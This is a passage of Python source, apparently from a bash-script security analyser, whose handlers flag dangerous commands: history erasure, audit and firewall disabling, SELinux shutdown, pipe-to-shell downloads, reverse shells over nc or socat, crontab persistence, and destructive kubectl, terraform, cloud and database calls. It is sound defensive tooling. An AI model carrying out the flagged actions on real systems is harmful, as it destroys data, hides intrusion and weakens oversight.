        if len(ops) >= 2:
            dest = normalise_path(ops[-1].text)
            srcs = [normalise_path(o.text) for o in ops[:-1]]
            if "/dev/null" in srcs and (dest in CRITICAL_FILES or destructive_scope(dest)):
                self.emit("bash.data_destruction", cmd.line, f"cp /dev/null empties {dest}", C)
            elif dest in CRITICAL_FILES:
                self.emit("bash.overwrite_critical_file", cmd.line, f"cp overwrites {dest}")
            elif is_block_device(dest):
                self.emit("bash.block_device_write", cmd.line, f"cp writes the block device {dest}")
        self._writes(cmd)

    def _cmd_tee(self, cmd: Command) -> None:
        for target in cmd.operands():
            path = normalise_path(target.text)
            if cmd.stdin_text:
                self.sink.written_scripts[path] = cmd.stdin_text
            if is_block_device(path):
                self.emit("bash.block_device_write", cmd.line, f"tee writes the block device {path}")
            elif path in CRITICAL_FILES:
                self.emit("bash.overwrite_critical_file", cmd.line, f"tee overwrites {path}")
        self._writes(cmd)

    _cmd_install = _cmd_cp
    _cmd_rsync = _cmd_cp

    def _cmd_ln(self, cmd: Command) -> None:
        ops = cmd.operands()
        if len(ops) >= 2 and normalise_path(ops[0].text) == "/dev/null" and matches_any(ops[-1].text, HISTORY_FILES):
            self.emit("bash.history_tamper", cmd.line, f"links {ops[-1].text} to /dev/null")
        self._writes(cmd)

    def _cmd_sed(self, cmd: Command) -> None:
        script = " ".join(a.text for a in cmd.args)
        if (re.search(r"(^|[;{\s'])\d*e\s|[/|]e(\s|$|;|')|\d+e\s", script) and not cmd.has_flag("-i")) or re.search(
            r"(^|\s)\d*e (sh|bash|rm|curl|wget|nc)\b", script
        ):
            self.emit("bash.interpreter_exec", cmd.line, "sed's e command runs shell commands")
        if cmd.has_flag("-i", "--in-place"):
            if "SELINUX=" in script and ("disabled" in script or "permissive" in script):
                self.emit("bash.mac_disable", cmd.line, "sed disables SELinux in its config")
            self._writes(cmd)

    def _cmd_perl(self, cmd: Command) -> None:
        if cmd.has_flag("-i"):
            self._writes(cmd)

    def _writes(self, cmd: Command) -> None:
        self._system_binary_write(cmd)
        for target in self._targets_for_write(cmd):
            path = normalise_path(target.text)
            if path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow") and cmd.name in ("sed", "perl"):
                self.emit("bash.account_change", cmd.line, f"{cmd.name} -i edits {path}")
                continue
            self._sensitive_write(path, cmd.line, cmd.name)

    def _cmd_chattr(self, cmd: Command) -> None:
        if any(a.startswith("-") and "i" in a for a in cmd.argv):
            for target in cmd.operands():
                if "authorized_keys" in target.text or target.text.startswith(("/etc/", "/bin", "/usr")):
                    self.emit(
                        "bash.ssh_keys" if "authorized_keys" in target.text else "bash.data_destruction",
                        cmd.line,
                        f"chattr removes immutability from {target.text}",
                    )

    def _cmd_history(self, cmd: Command) -> None:
        if cmd.has_flag("-c", "-d") or (cmd.has_flag("-w") and "/dev/null" in cmd.argv):
            self.emit("bash.history_tamper", cmd.line, f"history {' '.join(cmd.argv)} erases shell history")

    def _cmd_set(self, cmd: Command) -> None:
        if cmd.argv[:2] == ["+o", "history"]:
            self.emit("bash.history_tamper", cmd.line, "set +o history stops recording commands")

    def _cmd_auditctl(self, cmd: Command) -> None:
        if cmd.has_flag("-D") or (cmd.argv[:2] == ["-e", "0"]):
            self.emit("bash.audit_disable", cmd.line, f"auditctl {' '.join(cmd.argv)} removes auditing")

    def _cmd_systemctl(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.operands()]
        if not ops:
            return
        verb, units = ops[0], [u.removesuffix(".service") for u in ops[1:]]
        if verb in (
            "poweroff",
            "reboot",
            "halt",
            "kexec",
            "emergency",
            "rescue",
            "suspend",
            "hibernate",
            "soft-reboot",
        ):
            self.emit("bash.power_state", cmd.line, f"systemctl {verb} takes the host down")
        if verb == "isolate" and any(
            u.startswith(("rescue", "emergency", "poweroff", "reboot", "halt", "multi-user")) for u in units
        ):
            self.emit("bash.power_state", cmd.line, f"systemctl isolate {' '.join(units)}")
        if verb in ("stop", "disable", "mask", "kill") or (verb == "disable" and "--now" in cmd.argv):
            self._service_stop(cmd, verb, units)
        elif verb in ("restart", "try-restart", "reload-or-restart", "start"):
            for unit in units:
                self.stopped.pop(unit.removesuffix(".service"), None)

    def _service_stop(self, cmd: Command, verb: str, units: list[str]) -> None:
        for unit in units:
            base = unit.removesuffix(".service").removesuffix(".socket")
            if base in SSH_UNITS:
                self.emit("bash.remote_lockout", cmd.line, f"{verb} {unit}: remote access is cut")
            elif base in AUDIT_UNITS:
                self.emit("bash.audit_disable", cmd.line, f"{verb} {unit}: auditing/logging stops")
            elif base in FIREWALL_UNITS:
                self.emit("bash.firewall_disable", cmd.line, f"{verb} {unit}: the firewall is off")
            elif base in MAC_UNITS:
                self.emit("bash.mac_disable", cmd.line, f"{verb} {unit}: mandatory access control is off")
            elif verb in ("stop", "kill"):
                # judged at the end: a stop followed by a start of the same unit is a maintenance window
                self.stopped.setdefault(base, cmd.line)
            else:
                self.emit("bash.critical_service_stop", cmd.line, f"{verb} {unit}: it will not start again on its own")

    def finish(self) -> None:
        """Findings that need the whole script: services stopped and never started again."""
        for unit, line in self.stopped.items():
            self.emit("bash.critical_service_stop", line, f"stops {unit} and never starts it again")
        self.stopped.clear()

    def _cmd_service(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.operands()]
        if len(ops) >= 2 and ops[1] in ("stop",):
            self._service_stop(cmd, "stop", [ops[0]])
        elif len(ops) >= 2 and ops[1] in ("start", "restart"):
            self.stopped.pop(ops[0], None)

    def _cmd_chkconfig(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.operands()]
        if len(ops) >= 2 and ops[1] == "off":
            self._service_stop(cmd, "disable", [ops[0]])

    def _cmd_update_rc_d(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.operands()]
        if len(ops) >= 2 and ops[1] in ("remove", "disable"):
            self._service_stop(cmd, "disable", [ops[0]])

    def _cmd_iptables(self, cmd: Command) -> None:
        argv = cmd.argv
        if (
            (cmd.has_flag("-F", "--flush", "-X", "--delete-chain") and not cmd.has_flag("-t"))
            or "--flush" in argv
            or "-F" in argv
        ):
            self.emit("bash.firewall_disable", cmd.line, f"{cmd.name} {' '.join(argv)[:60]} flushes firewall rules")
        for i, arg in enumerate(argv):
            if arg in ("-P", "--policy") and i + 2 < len(argv):
                self.emit(
                    "bash.firewall_disable",
                    cmd.line,
                    f"{cmd.name} -P {argv[i + 1]} {argv[i + 2]} changes the default policy",
                )

    _cmd_ip6tables = _cmd_iptables
    _cmd_iptables_legacy = _cmd_iptables
    _cmd_iptables_nft = _cmd_iptables

    def _cmd_iptables_restore(self, cmd: Command) -> None:
        if cmd.stdin_text is not None and (
            "-F" in cmd.stdin_text or ("ACCEPT [" in cmd.stdin_text and ":INPUT ACCEPT" in cmd.stdin_text)
        ):
            self.emit("bash.firewall_disable", cmd.line, "iptables-restore loads an open rule set")

    def _cmd_nft(self, cmd: Command) -> None:
        argv = cmd.argv
        if ("flush" in argv and "ruleset" in argv) or (argv[:2] == ["delete", "table"]):
            self.emit("bash.firewall_disable", cmd.line, f"nft {' '.join(argv)} removes firewall rules")

    def _cmd_ufw(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.operands()]
        if ops[:1] in (["disable"], ["reset"]) or ops[:2] in (["default", "allow"],):
            self.emit("bash.firewall_disable", cmd.line, f"ufw {' '.join(ops)} opens the firewall")

    def _cmd_firewall_cmd(self, cmd: Command) -> None:
        if any(a.startswith("--set-default-zone=trusted") or a == "--panic-off" for a in cmd.argv) or (
            "--set-default-zone" in cmd.argv and "trusted" in cmd.argv
        ):
            self.emit("bash.firewall_disable", cmd.line, "firewall-cmd trusts all traffic")

    def _cmd_setenforce(self, cmd: Command) -> None:
        if cmd.argv[:1] in (["0"], ["Permissive"], ["permissive"]):
            self.emit("bash.mac_disable", cmd.line, "setenforce 0 turns SELinux enforcement off")

    def _cmd_aa_teardown(self, cmd: Command) -> None:
        self.emit("bash.mac_disable", cmd.line, "aa-teardown unloads every AppArmor profile")

    def _cmd_aa_disable(self, cmd: Command) -> None:
        self.emit("bash.mac_disable", cmd.line, "aa-disable removes an AppArmor profile")

    _cmd_aa_complain = _cmd_aa_disable

    def _power(self, cmd: Command) -> None:
        if cmd.name == "shutdown" and cmd.has_flag("-c"):
            return
        self.emit("bash.power_state", cmd.line, f"{cmd.name} {' '.join(cmd.argv)}".strip() + " takes the host down")

    _cmd_shutdown = _power
    _cmd_reboot = _power
    _cmd_poweroff = _power
    _cmd_halt = _power

    def _cmd_init(self, cmd: Command) -> None:
        if cmd.argv[:1] and cmd.argv[0] in ("0", "1", "6", "s", "S"):
            self._power(cmd)

    _cmd_telinit = _cmd_init

    def _cmd_kexec(self, cmd: Command) -> None:
        if cmd.has_flag("-e"):
            self._power(cmd)

    def _cmd_kill(self, cmd: Command) -> None:
        ops = [a.text for a in cmd.args if not re.fullmatch(r"-[A-Z0-9]+|-s|-n|-SIG[A-Z]+", a.text) or a.text == "-1"]
        # "-1" is both a signal number and "every process": as a later operand it is the pid
        pids = []
        for i, a in enumerate(cmd.argv):
            if a == "-1" and i > 0:
                pids.append("-1")
            elif not a.startswith("-"):
                pids.append(a)
        if cmd.argv[:1] == ["--"] or "-1" in pids:
            self.emit("bash.kill_all", cmd.line, f"kill {' '.join(cmd.argv)} signals every process")
        elif "1" in pids and any(s in cmd.argv for s in ("-9", "-KILL", "-SIGKILL", "-15", "-TERM")):
            self.emit("bash.kill_all", cmd.line, "kill targets PID 1 (init)", H)
        del ops

    def _cmd_killall5(self, cmd: Command) -> None:
        self.emit("bash.kill_all", cmd.line, "killall5 signals every process")

    def _cmd_killall(self, cmd: Command) -> None:
        soft = any(s in cmd.argv for s in ("-HUP", "-USR1", "-USR2", "-s HUP", "-0")) or cmd.argv[:2] == ["-s", "HUP"]
        if soft:
            return
        targets = [a.text for a in cmd.operands()]
        severity = H if any(s in cmd.argv for s in ("-9", "-KILL", "-SIGKILL")) or cmd.has_flag("-u") else M
        self.emit("bash.kill_all", cmd.line, f"killall kills every {' '.join(targets) or 'matching'} process", severity)

    def _cmd_pkill(self, cmd: Command) -> None:
        argv = cmd.argv
        if cmd.has_flag("-u", "-U", "--euid", "--uid") and not any(
            not a.startswith("-") and a not in ("root",) and argv[max(0, i - 1)] not in ("-u", "-U")
            for i, a in enumerate(argv)
        ):
            self.emit("bash.kill_all", cmd.line, f"pkill {' '.join(argv)} kills every process of a user", H)
            return
        ops = [
            a
            for i, a in enumerate(argv)
            if not a.startswith("-") and argv[max(0, i - 1)] not in ("-u", "-U", "-s", "-g", "-P", "-t")
        ]
        if any(o in ("", ".", ".*", "sshd", "systemd", "init", "bash", "sh") for o in ops) or not ops:
            self.emit("bash.kill_all", cmd.line, f"pkill {' '.join(argv)} matches critical or all processes", H)

    def _cmd_ip(self, cmd: Command) -> None:
        argv = cmd.argv
        if (
            ("link" in argv and "down" in argv)
            or (
                argv[:2] in (["route", "del"], ["route", "flush"], ["r", "del"])
                and ("default" in argv or "flush" in argv)
            )
            or argv[:2] in (["addr", "flush"], ["address", "flush"], ["a", "flush"])
        ):
            self.emit("bash.remote_lockout", cmd.line, f"ip {' '.join(argv)} can cut network access")

    def _cmd_ifdown(self, cmd: Command) -> None:
        self.emit("bash.remote_lockout", cmd.line, f"ifdown {' '.join(cmd.argv)} takes an interface down")

    def _cmd_ifconfig(self, cmd: Command) -> None:
        if "down" in cmd.argv:
            self.emit("bash.remote_lockout", cmd.line, f"ifconfig {' '.join(cmd.argv)}")

    def _cmd_nmcli(self, cmd: Command) -> None:
        if (
            cmd.argv[:2] == ["networking", "off"]
            or (cmd.argv[:1] in (["radio"], ["r"]) and "off" in cmd.argv)
            or ("down" in cmd.argv and cmd.argv[:1] in (["connection"], ["con"], ["c"], ["device"], ["dev"], ["d"]))
        ):
            self.emit("bash.remote_lockout", cmd.line, f"nmcli {' '.join(cmd.argv)}")

    def _account(self, cmd: Command) -> None:
        self.emit("bash.account_change", cmd.line, f"{cmd.name} {' '.join(cmd.argv)[:60]}")

    _cmd_userdel = _account
    _cmd_groupdel = _account
    _cmd_chpasswd = _account
    _cmd_vipw = _account
    _cmd_deluser = _account

    def _cmd_usermod(self, cmd: Command) -> None:
        self._account(cmd)

    def _cmd_useradd(self, cmd: Command) -> None:
        joined = " ".join(cmd.argv)
        if "-o" in cmd.argv or re.search(r"-u\s*0\b", joined) or re.search(r"(sudo|wheel|root|admin|docker)", joined):
            self._account(cmd)

    _cmd_adduser = _cmd_useradd

    def _cmd_passwd(self, cmd: Command) -> None:
        if (
            cmd.has_flag("-d", "-l", "-u", "--delete", "--lock", "-e")
            or [o.text for o in cmd.operands()] in (["root"],)
            or cmd.has_flag("--stdin")
        ):
            self._account(cmd)

    def _cmd_gpasswd(self, cmd: Command) -> None:
        if any(g in cmd.argv for g in ("sudo", "wheel", "root", "admin", "docker")):
            self._account(cmd)

    def _cmd_visudo(self, cmd: Command) -> None:
        if not cmd.has_flag("-c", "--check"):
            self.emit("bash.sudoers", cmd.line, "visudo edits sudoers")

    def _cmd_crontab(self, cmd: Command) -> None:
        argv = cmd.argv
        if cmd.has_flag("-r"):
            self.emit("bash.cron", cmd.line, "crontab -r deletes every scheduled job of the user")
        elif not cmd.has_flag("-l") and (
            argv[-1:] == ["-"]
            or any(o.text != "-" for o in cmd.operands())
            or bool(cmd.upstream)
            or cmd.stdin_text is not None
        ):
            self.emit("bash.cron", cmd.line, "installs a new crontab (persistence)")
            if cmd.stdin_text:
                self.sink.embedded(cmd.stdin_text, "crontab", cmd.line, "crontab")
            for up in cmd.upstream:
                if up.name in ("echo", "printf") and not any(a.dynamic for a in up.args):
                    entry = _pure_stage(up.name, [a.text.replace(SPLIT, " ") for a in up.args], None)
                    if entry:
                        self.sink.embedded(entry, "crontab", cmd.line, "crontab entry")

    def _cmd_at(self, cmd: Command) -> None:
        if cmd.has_flag("-l", "-r", "-d", "-c") and not cmd.stdin_text:
            return
        self.emit("bash.deferred_execution", cmd.line, f"{cmd.name} schedules commands to run later")
        self._stdin_code(cmd, "bash")

    _cmd_batch = _cmd_at

    def _cmd_trap(self, cmd: Command) -> None:
        ops = cmd.operands()
        if not ops:
            return
        handler = ops[0]
        if handler.dynamic:
            self.emit("bash.eval_dynamic", cmd.line, f"trap runs run-time text '{handler.raw[:60]}'")
        elif handler.text.strip() and handler.text not in ("-",):
            self.sink.embedded(handler.text, "bash", cmd.line, "trap handler")

    def _cmd_eval(self, cmd: Command) -> None:
        code_words = cmd.args
        if not code_words:
            return
        names = set()
        for w in code_words:
            names.update(w.subst_commands)
        if any(w.dynamic for w in code_words):
            if names & DOWNLOADERS:
                self.emit("bash.pipe_to_shell", cmd.line, "eval runs text downloaded at run time")
            elif names & DECODERS:
                self.emit("bash.decode_to_shell", cmd.line, "eval runs decoded text")
            elif names <= {"ssh-agent", "dircolors", "pyenv", "rbenv", "direnv", "brew", "keychain", "opam"} and names:
                return
            else:
                self.emit(
                    "bash.eval_dynamic", cmd.line, f"eval of run-time text '{' '.join(w.raw for w in code_words)[:60]}'"
                )
            return
        code = " ".join(w.text for w in code_words)
        if any(w.obfuscated for w in code_words) and names & DECODERS:
            self.emit("bash.decode_to_shell", cmd.line, "eval runs decoded text")
        self.sink.embedded(code, "bash", cmd.line, "eval")

    def _cmd_source(self, cmd: Command) -> None:
        ops = cmd.operands() or cmd.args
        if not ops:
            return
        self._script_operand(cmd, ops[0], "source")

    _cmd__ = _cmd_source  # "." after name sanitising

    def _script_operand(self, cmd: Command, target: Word, how: str) -> None:
        path = normalise_path(target.text)
        if target.process_subst:
            names = set(target.subst_commands)
            if names & DOWNLOADERS:
                self.emit(
                    "bash.pipe_to_shell",
                    cmd.line,
                    f"{how} runs text downloaded by {', '.join(sorted(names & DOWNLOADERS))}",
                )
            elif names & DECODERS:
                self.emit("bash.decode_to_shell", cmd.line, f"{how} runs decoded text")
            else:
                self.emit("bash.eval_dynamic", cmd.line, f"{how} runs the output of a process substitution")
            return
        if path in self.sink.downloads:
            self.emit("bash.pipe_to_shell", cmd.line, f"{how} runs {path}, which the script downloaded or decoded")
            return
        if path in self.sink.written_scripts:
            self.sink.embedded(self.sink.written_scripts[path], "bash", cmd.line, f"script {path}")
            return
        if target.dynamic:
            self.emit("bash.eval_dynamic", cmd.line, f"{how} of '{target.raw[:60]}', a path known only at run time")

    def _stdin_code(self, cmd: Command, language: str) -> bool:
        """Validate what arrives on stdin as ``language``; True when something was found there."""
        if cmd.stdin_text is not None:
            if cmd.stdin_dynamic and language != "bash":
                self.emit("embedded.unvalidated", cmd.line, f"{language} heredoc contains run-time expansions", L)
            self.sink.embedded(cmd.stdin_text, language, cmd.line, f"{cmd.name} stdin")
            return True
        if not cmd.upstream:
            return False
        up = cmd.upstream
        if any(_is_downloader(u) for u in up):
            which = next(u.name for u in up if _is_downloader(u))
            if which in ("nc", "ncat", "netcat", "socat", "telnet", "openssl"):
                self.emit("bash.reverse_shell", cmd.line, f"{which} feeds a network connection into {cmd.name}")
                return True
            self.emit("bash.pipe_to_shell", cmd.line, f"{which} output is piped into {cmd.name}")
            return True
        text: str | None = None
        decoded = False
        for stage in up:
            if stage.name == "cat" and not stage.args and stage.stdin_text is not None:
                text = stage.stdin_text
                continue
            if _is_decoder(stage):
                decoded = True
            if any(a.dynamic for a in stage.args):
                text = None
                break
            text = _pure_stage(stage.name, [a.text.replace(SPLIT, " ") for a in stage.args], text)
            if text is None:
                break
        if decoded:
            self.emit(
                "bash.decode_to_shell",
                cmd.line,
                f"decoded text ({', '.join(u.name for u in up)}) is piped into {cmd.name}",
            )
        if text is not None:
            self.sink.embedded(text, language, cmd.line, f"text piped into {cmd.name}")
            return True
        if not decoded:
            first = up[0]
            if (
                first.name == "cat"
                and first.operands()
                and normalise_path(first.operands()[0].text) in self.sink.written_scripts
            ):
                self.sink.embedded(
                    self.sink.written_scripts[normalise_path(first.operands()[0].text)], language, cmd.line, "script"
                )
            elif language in ("bash", "python") or _shell_kind(cmd.name):
                self.emit(
                    "bash.eval_dynamic", cmd.line, f"{cmd.name} runs whatever {' | '.join(u.name for u in up)} prints"
                )
        return True

    def _interpreter(self, cmd: Command, kind: str) -> None:
        args = cmd.args
        code_flag = "-c" if kind in ("bash", "python") else "-e"
        code: Word | None = None
        script: Word | None = None
        i = 0
        while i < len(args):
            text = args[i].text
            if text == "--":
                i += 1
                break
            if text.startswith("-") and len(text) > 1 and not text.startswith("--"):
                letters = text[1:]
                if (
                    code_flag[1] in letters
                    or (kind == "perl" and "E" in letters)
                    or (kind == "node" and "p" in letters)
                ):
                    code = args[i + 1] if i + 1 < len(args) else None
                    break
                if kind == "python" and letters in ("m",):
                    return
                i += 1
                continue
            if text.startswith("--"):
                if text in ("--command", "--eval", "--exec"):
                    code = args[i + 1] if i + 1 < len(args) else None
                    break
                i += 1
                continue
            script = args[i]
            break
        if kind in ("bash",) and cmd.prefix_env:
            for key in ("BASH_ENV", "ENV"):
                if key in cmd.prefix_env:
                    self.emit(
                        "bash.env_injection",
                        cmd.line,
                        f"{key}={cmd.prefix_env[key].text} makes {cmd.name} run that file first",
                    )
        language = kind
        if code is not None:
            if code.dynamic:
                names = set(code.subst_commands)
                if names & DOWNLOADERS:
                    self.emit("bash.pipe_to_shell", cmd.line, f"{cmd.name} {code_flag} runs downloaded text")
                elif names & DECODERS:
                    self.emit("bash.decode_to_shell", cmd.line, f"{cmd.name} {code_flag} runs decoded text")
                else:
                    self.emit(
                        "bash.eval_dynamic",
                        cmd.line,
                        f"{cmd.name} {code_flag} '{code.raw[:60]}' is known only at run time",
                    )
                return
            if kind in ("bash", "python"):
                self.sink.embedded(code.text, language, cmd.line, f"{cmd.name} {code_flag}")
            else:
                self._foreign_code(cmd, code.text)
            return
        if script is not None and script.text != "-":
            self._script_operand(cmd, script, cmd.name)
            return
        if kind in ("bash", "python"):
            self._stdin_code(cmd, language)
        elif cmd.stdin_text is not None or cmd.upstream:
            if cmd.upstream and any(_is_downloader(u) for u in cmd.upstream):
                self.emit("bash.pipe_to_shell", cmd.line, f"downloaded text is piped into {cmd.name}")
            elif cmd.stdin_text is not None:
                self._foreign_code(cmd, cmd.stdin_text)

    def _foreign_code(self, cmd: Command, code: str) -> None:
        if re.search(
            r"\b(system|exec|spawn|popen|fork|unlink|rmtree|socket|eval|child_process|shell_exec|passthru)\b|`", code
        ):
            self.emit("bash.interpreter_exec", cmd.line, f"{cmd.name} code runs system commands: {code[:60]!r}")

    def _cmd_awk(self, cmd: Command) -> None:
        program = next((a.text for a in cmd.args if not a.text.startswith("-")), "")
        if re.search(r"\bsystem\s*\(|\|\s*getline|print\s*[^|]*\|\s*\"", program):
            self.emit("bash.interpreter_exec", cmd.line, f"awk program runs shell commands: {program[:60]!r}")

    _cmd_gawk = _cmd_awk
    _cmd_mawk = _cmd_awk
    _cmd_nawk = _cmd_awk

    def _cmd_tar(self, cmd: Command) -> None:
        if any(
            a.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program", "--rsh-command"))
            for a in cmd.argv
        ):
            self.emit("bash.interpreter_exec", cmd.line, "tar runs an external command through an option")
        self._exfil(cmd)

    def _cmd_git(self, cmd: Command) -> None:
        argv = cmd.argv
        root = any(
            a in ("/",) for i, a in enumerate(argv) if i > 0 and argv[i - 1] in ("-C", "--git-dir", "--work-tree")
        ) or any(a in ("--git-dir=/", "--work-tree=/") for a in argv)
        if any(
            a.startswith(("core.pager=", "core.sshCommand=", "core.editor=", "core.fsmonitor="))
            or (a.startswith("alias.") and "=!" in a)
            for a in argv
        ):
            self.emit("bash.interpreter_exec", cmd.line, "git -c config runs a shell command")
        sub = next(
            (
                a
                for i, a in enumerate(argv)
                if not a.startswith("-") and (i == 0 or argv[i - 1] not in ("-C", "-c", "--git-dir", "--work-tree"))
            ),
            "",
        )
        if sub == "reset" and "--hard" in argv:
            self.emit(
                "bash.destructive_cli",
                cmd.line,
                "git reset --hard discards uncommitted work" + (" on /" if root else ""),
                C if root else M,
            )
        elif sub == "clean" and cmd.has_flag("-f") and not cmd.has_flag("-n", "--dry-run"):
            self.emit("bash.destructive_cli", cmd.line, "git clean -f deletes untracked files", C if root else M)
        elif (
            sub == "push"
            and (cmd.has_flag("-f", "--force") or any(a.startswith("+") for a in argv))
            and not any(a.startswith("--force-with-lease") for a in argv)
        ):
            self.emit("bash.destructive_cli", cmd.line, "git push --force rewrites remote history")
        elif sub == "stash" and "clear" in argv:
            self.emit("bash.destructive_cli", cmd.line, "git stash clear drops all stashes", M)

    def _cmd_kubectl(self, cmd: Command) -> None:
        argv = cmd.argv
        ops = [
            a
            for i, a in enumerate(argv)
            if not a.startswith("-")
            and (
                i == 0
                or argv[i - 1]
                not in (
                    "-n",
                    "--namespace",
                    "--context",
                    "-l",
                    "--selector",
                    "-f",
                    "--filename",
                    "-o",
                    "--field-selector",
                    "-c",
                    "--kubeconfig",
                    "--cluster",
                    "--user",
                    "-p",
                )
            )
        ]
        verb = ops[0] if ops else ""
        everything = any(a in ("--all", "-A", "--all-namespaces") or a.startswith("--all=") for a in argv)
        if verb == "delete":
            kinds = ops[1].lower().split(",") if len(ops) > 1 else []
            kind_names = ops[1].lower().split("/") if len(ops) > 1 else []
            kind = kind_names[0] if kind_names else ""
            names = ops[2:] if len(kind_names) == 1 else [kind_names[1]]
            if kind in ("ns", "namespace", "namespaces"):
                if names and all(EPHEMERAL_NAMESPACE.match(n) for n in names):
                    return
                self.emit(
                    "bash.destructive_cli",
                    cmd.line,
                    f"kubectl delete namespace {' '.join(names)} deletes everything in it",
                    C,
                )
            elif everything or "all" in kinds:
                self.emit(
                    "bash.destructive_cli",
                    cmd.line,
                    f"kubectl delete {' '.join(argv[1:])[:60]} deletes every matching resource",
                    C,
                )
            elif kind in (
                "pv",
                "pvc",
                "persistentvolume",
                "persistentvolumeclaim",
                "persistentvolumes",
                "persistentvolumeclaims",
                "crd",
                "crds",
                "customresourcedefinition",
                "customresourcedefinitions",
                "node",
                "nodes",
                "statefulset",
                "statefulsets",
                "sts",
                "deployment",
                "deployments",
                "deploy",
                "daemonset",
                "daemonsets",
                "ds",
                "service",
                "svc",
                "secret",
                "secrets",
                "clusterrole",
                "clusterrolebinding",
                "storageclass",
                "sc",
                "validatingwebhookconfiguration",
                "mutatingwebhookconfiguration",
            ):
                self.emit(
                    "bash.destructive_cli",
                    cmd.line,
                    f"kubectl delete {kind} {' '.join(names)[:40]} removes a long-lived resource",
                )
            elif (
                kind in ("pod", "pods", "po")
                and any(a in ("-l", "--selector") or a.startswith("--selector=") for a in argv)
                and not any(a.startswith("--field-selector") for a in argv)
            ):
                self.emit(
                    "bash.destructive_cli", cmd.line, "kubectl delete pods by label deletes every matching pod", M
                )
            elif "-f" in argv or "--filename" in argv or any(a.startswith(("-f=", "--filename=")) for a in argv):
                self.emit(
                    "bash.destructive_cli", cmd.line, "kubectl delete -f deletes everything the manifest names", M
                )
            if cmd.stdin_text is not None or cmd.upstream:
                self._stdin_code(cmd, "kubernetes")
            return
        if verb == "scale":
            for a in argv:
                if re.fullmatch(r"--replicas=0+", a) or (a == "0" and "--replicas" in argv):
                    self.emit("bash.destructive_cli", cmd.line, "kubectl scale --replicas=0 takes the workload offline")
        if verb in ("apply", "create", "replace") and ("-" in argv or "--filename=-" in argv or "-f=-" in argv):
            self._stdin_code(cmd, "kubernetes")
        if verb == "apply" and "--prune" in argv:
            self.emit(
                "bash.destructive_cli", cmd.line, "kubectl apply --prune deletes resources missing from the manifest", M
            )
        if verb == "drain" and everything:
            self.emit("bash.destructive_cli", cmd.line, "kubectl drain --all drains every node")
        if verb == "exec" and "--" in argv:
            inner = cmd.args[argv.index("--") + 1 :]
            if inner:
                self.check(
                    Command(
                        name=normalise_name(inner[0].text),
                        args=inner[1:],
                        line=cmd.line,
                        name_word=inner[0],
                        context="kubectl exec",
                    )
                )

    def _cmd_helm(self, cmd: Command) -> None:
        if cmd.argv[:1] in (["uninstall"], ["delete"], ["del"], ["un"]):
            self.emit(
                "bash.destructive_cli", cmd.line, f"helm {' '.join(cmd.argv)[:60]} removes a release and its resources"
            )

    def _cmd_terraform(self, cmd: Command) -> None:
        if "destroy" in cmd.argv or "-destroy" in cmd.argv:
            self.emit("bash.destructive_cli", cmd.line, "terraform destroy deletes the managed infrastructure", C)
        elif cmd.argv[:1] == ["apply"] and "-auto-approve" in cmd.argv:
            self.emit(
                "bash.destructive_cli", cmd.line, "terraform apply -auto-approve changes infrastructure unreviewed", M
            )
        elif cmd.argv[:2] == ["state", "rm"]:
            self.emit("bash.destructive_cli", cmd.line, "terraform state rm forgets managed resources", M)

    _cmd_tofu = _cmd_terraform

    def _cmd_aws(self, cmd: Command) -> None:
        argv = cmd.argv
        joined = " ".join(argv)
        if (
            (argv[:2] == ["s3", "rm"] and "--recursive" in argv)
            or argv[:2] == ["s3", "rb"]
            or re.search(
                r"\b(terminate-instances|delete-db-instance|delete-db-cluster|delete-bucket|delete-stack|delete-table|"
                r"delete-cluster|delete-volume|delete-snapshot|delete-secret|delete-user|delete-key)\b",
                joined,
            )
        ):
            self.emit("bash.destructive_cli", cmd.line, f"aws {joined[:60]} deletes cloud resources")

    def _cmd_gcloud(self, cmd: Command) -> None:
        if "delete" in cmd.argv:
            self.emit("bash.destructive_cli", cmd.line, f"gcloud {' '.join(cmd.argv)[:60]} deletes cloud resources")

    _cmd_az = _cmd_gcloud
    _cmd_doctl = _cmd_gcloud

    def _cmd_gsutil(self, cmd: Command) -> None:
        if ("rm" in cmd.argv and cmd.has_flag("-r")) or "rb" in cmd.argv:
            self.emit("bash.destructive_cli", cmd.line, "gsutil recursive delete")

    def _cmd_docker(self, cmd: Command) -> None:
        argv = cmd.argv
        if argv[:2] == ["system", "prune"] and (cmd.has_flag("-a", "--all", "--volumes")):
            self.emit("bash.destructive_cli", cmd.line, f"docker {' '.join(argv)} deletes images and volumes")
        elif (
            argv[:2] == ["volume", "prune"]
            or (argv[:2] in (["volume", "rm"],) and cmd.has_flag("-f"))
            or (argv[:1] == ["rm"] and cmd.has_flag("-v") and any(a.dynamic for a in cmd.args))
        ):
            self.emit("bash.destructive_cli", cmd.line, f"docker {' '.join(argv)} deletes volumes (data)")
        elif argv[:1] in (["run"],) and (
            cmd.has_flag("--privileged")
            or any(a.startswith("/:/") or a == "/:/host" or a.startswith("-v/:") for a in argv)
        ):
            self.emit("bash.destructive_cli", cmd.line, "docker run --privileged or with / mounted is root on the host")
        elif argv[:1] == ["run"] and any(re.match(r"^/:", a) for a in argv):
            self.emit("bash.destructive_cli", cmd.line, "docker run mounts the host root")

    _cmd_podman = _cmd_docker

    def _cmd_redis_cli(self, cmd: Command) -> None:
        upper = [a.upper() for a in cmd.argv]
        if (
            any(a in ("FLUSHALL", "FLUSHDB", "SHUTDOWN") for a in upper)
            or ("CONFIG" in upper and "SET" in upper and ("DIR" in upper or "DBFILENAME" in upper))
            or upper[:2] == ["DEBUG", "SEGFAULT"]
        ):
            self.emit("bash.destructive_cli", cmd.line, f"redis-cli {' '.join(cmd.argv)[:60]}")
        if cmd.stdin_text and re.search(r"FLUSHALL|FLUSHDB", cmd.stdin_text, re.I):
            self.emit("bash.destructive_cli", cmd.line, "redis-cli input flushes data")

    def _cmd_dropdb(self, cmd: Command) -> None:
        self.emit("bash.destructive_cli", cmd.line, f"dropdb {' '.join(cmd.argv)} deletes a database", C)

    def _cmd_dropuser(self, cmd: Command) -> None:
        self.emit("bash.destructive_cli", cmd.line, "dropuser deletes a database role")

    def _cmd_psql(self, cmd: Command) -> None:
        argv = cmd.argv
        for i, a in enumerate(argv):
            if a in ("-c", "--command") and i + 1 < len(cmd.args):
                word = cmd.args[i + 1]
                if word.dynamic:
